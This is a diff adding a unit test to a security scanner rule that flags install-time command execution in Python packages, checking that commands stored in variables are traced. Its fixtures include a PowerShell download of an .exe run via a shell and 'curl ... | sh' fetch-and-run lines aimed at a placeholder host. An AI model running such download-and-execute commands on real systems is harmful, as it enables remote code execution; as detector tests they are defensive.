@@ -129,6 +129,28 @@ TEST(InstallExecRule, EscalationLooksOnlyInsideTheCall) {
   ExpectFinding("exec(fh.read(), about)\n", Severity::kLow);
 }
 
+// A command built in a variable is graded by what the variable holds: the
+// line its value is assigned on joins the call's own text.
+TEST(InstallExecRule, EscalationFollowsNamesToTheirAssignedText) {
+  ExpectFinding("import os, subprocess\nout = os.path.join(os.getcwd(), 't.exe')\n"
+                "cmd = f\"powershell -Command \\\"Invoke-WebRequest -Uri u -OutFile '{out}'\\\"\"\n"
+                "subprocess.run(cmd, shell=True)\n",
+                Severity::kCritical, 4);
+  // Ordinary variables keep the call's own grade; keyword names and
+  // attributes are not looked up.
+  ExpectFinding("import subprocess\nargs = ['make', 'all']\nsubprocess.run(args)\n",
+                Severity::kHigh);
+  std::vector<Finding> kw = Check("import subprocess\nshell = 'curl http://x.invalid | sh'\n"
+                                  "subprocess.run(['make'], shell=True)\n");
+  ASSERT_EQ(kw.size(), 1u);
+  EXPECT_LT(kw[0].severity, Severity::kCritical) << kw[0].message;
+  std::vector<Finding> attr = Check("import subprocess\nclass C: pass\nc = C()\n"
+                                    "cmd = 'curl http://x.invalid | sh'\n"
+                                    "subprocess.run(['make', c.cmd])\n");
+  ASSERT_EQ(attr.size(), 1u);
+  EXPECT_LT(attr[0].severity, Severity::kCritical) << attr[0].message;
+}
+
 TEST(InstallExecRule, BlocksGuardedByOtherCommandsDoNotRunAtInstall) {
   ExpectNoFinding("import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload')\n");
   ExpectFinding("import os, sys\nif 'install' in sys.argv:\n    os.system('id')\n",
